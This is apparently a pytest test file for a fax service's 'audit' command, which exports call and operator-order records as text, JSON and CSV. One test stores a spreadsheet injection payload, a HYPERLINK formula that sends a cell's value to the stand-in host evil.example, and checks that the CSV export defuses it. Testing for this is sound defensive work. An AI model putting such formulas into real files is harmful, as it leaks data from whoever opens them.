"""`faxline audit` reads and exports what was called at iFax and what operators ordered."""

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
import redis

from faxline.cli.running import run
from faxline_worker.state.results import Admitted
from faxline_worker.state.store import Store
from tests.stage.daemon import usual_settings
from tests.stage.intake import create_group, register

Faxline = Callable[..., list[str]]


@pytest.fixture
def store(redis_client: Any) -> Store:
    settings = usual_settings()
    made = Store(redis_client, settings, "default", who="pod-1:7")
    create_group(made)
    register(made, redis_client, "a")
    admitted = made.submission.admit("permit", "")
    assert isinstance(admitted, Admitted)
    made.submission.mark(admitted)
    call = {"call": "fax-send", "attempt": 1, "outcome": "accepted", "status": 200, "ms": 120}
    made.submission.settle(
        admitted, {"decision": "accepted", "job_id": "77", "reason": "accepted", "code": 1, **call}
    )
    order = redis_client.xadd(made.keys.orders, {"order": "pause"})
    made.orders.pause_or_resume(order.decode(), "pause", "jane@desk")
    return made


@pytest.fixture
def faxline(store: Store, redis_url: str, capsys: pytest.CaptureFixture[str]) -> Faxline:
    del store

    def command(*arguments: str, code: int = 0) -> list[str]:
        assert run(["--redis", redis_url, "audit", *arguments]) == code
        return capsys.readouterr().out.splitlines()

    return command


def test_a_line_tells_who_what_and_how_it_ended(faxline: Faxline) -> None:
    call, order = faxline()
    assert call.endswith(
        "pod-1:7  fax-send  accepted  job a, attempt 1, jobId 77, status 200, code 1, reason accepted, 0.12 s"
    )
    assert order.endswith("jane@desk  pause  done")


@pytest.mark.parametrize(
    ("options", "what"),
    [
        (("--calls",), ["fax-send"]),
        (("--orders",), ["pause"]),
        (("--who", "jane@desk"), ["pause"]),
        (("--job", "a"), ["fax-send"]),
        (("--job", "b"), []),
        (("--until", "1h"), []),
        (("--since", "2020-01-01T00:00:00Z"), ["fax-send", "pause"]),
        (("--since", "2020-01-01T00:00:00+01:00", "--until", "2020-01-02T00:00:00Z"), []),
    ],
    ids=" ".join,
)
def test_it_can_be_narrowed(faxline: Faxline, options: tuple[str, ...], what: list[str]) -> None:
    assert [json.loads(line)["what"] for line in faxline(*options, "--json")] == what


def test_the_csv_has_a_header_and_the_same_as_the_json(faxline: Faxline) -> None:
    rows = list(csv.DictReader(io.StringIO("\n".join(faxline("--csv")))))
    assert [{k: v for k, v in row.items() if v} for row in rows] == [
        {k: str(v) for k, v in json.loads(line).items() if v is not None} for line in faxline("--json")
    ]


def test_the_csv_has_no_cell_that_a_spreadsheet_computes(
    faxline: Faxline, store: Store, redis_client: redis.Redis
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    order: Any = redis_client.xadd(store.keys.orders, {"order": "resume", "user": "@SUM(1)"})
    store.orders.pause_or_resume(order.decode(), "resume", formula)
    redis_client.xadd(store.keys.audit, {"at": "1", "who": "w", "what": "w", "outcome": "o", "code": "-3010"})
    *_, told, call = csv.DictReader(io.StringIO("\n".join(faxline("--csv"))))
    assert (told["who"], told["user"], call["code"]) == (f"'{formula}", "'@SUM(1)", "-3010")


def test_more_than_a_page_is_read_to_the_end(
    faxline: Faxline, store: Store, redis_client: redis.Redis
) -> None:
    for i in range(2500):
        redis_client.xadd(store.keys.audit, {"at": "1", "who": "w", "what": str(i), "outcome": "done"})
    whats = [json.loads(line)["what"] for line in faxline("--json")]
    assert whats == ["fax-send", "pause", *map(str, range(2500))]


@pytest.mark.parametrize(
    "bad", ["yesterday", "2026-11-01", "2026-11-01T00:00:00", "9" * 12 + "d", "9" * 5000 + "d"]
)
def test_a_time_that_is_none_is_told_in_one_line(faxline: Faxline, bad: str) -> None:
    assert faxline("--since", bad, code=2) == []
